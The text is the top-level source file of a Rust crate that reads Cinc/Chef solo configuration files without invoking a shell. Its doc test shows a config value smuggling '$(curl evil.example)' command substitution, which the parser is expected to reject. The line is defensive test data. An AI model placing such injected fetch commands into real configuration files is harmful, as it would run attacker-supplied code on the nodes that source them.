//! The solo configuration of a Cinc or Chef client, read without a shell.
//!
//! A node's client is pointed at an archive of cookbooks by a file of shell assignments, which
//! boot scripts source:
//!
//! ```sh
//! CHEF_RECIPE_URL='http://installer/cinc/latest.tgz'
//! CHEF_RUN_LIST='role[exe]'
//! ```
//!
//! Sourcing it runs whatever somebody wrote into it. This crate reads it without a shell: it takes
//! the values a shell would assign, and refuses the file if a shell would expand or run anything.
//!
//! ```
//! use cinc::{ClientRun, SoloConfig};
//!
//! let config = SoloConfig::new("http://installer/cinc/latest.tgz".parse()?)
//!     .with_run_list("role[exe]".parse()?);
//! let file = config.render();
//! assert_eq!(SoloConfig::parse(&file)?, Some(config.clone()));
//!
//! let run = ClientRun::new("/usr/bin/cinc-solo", &config);
//! assert_eq!(
//!     run.argv()[1..],
//!     ["--minimal-ohai", "--recipe-url", "http://installer/cinc/latest.tgz",
//!      "--override-runlist", "role[exe]"],
//! );
//!
//! assert!(SoloConfig::parse("CHEF_RECIPE_URL=$(curl evil.example)").is_err());
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

mod assignments;
mod config;
mod run;
mod run_list;
mod url;

pub use assignments::ParseError;
pub use config::{ConfigError, SoloConfig};
pub use run::ClientRun;
pub use run_list::{RunList, RunListError};
pub use url::{ArchiveUrl, ArchiveUrlError};

#[cfg(doctest)]
#[doc = include_str!("../README.md")]
struct Readme;
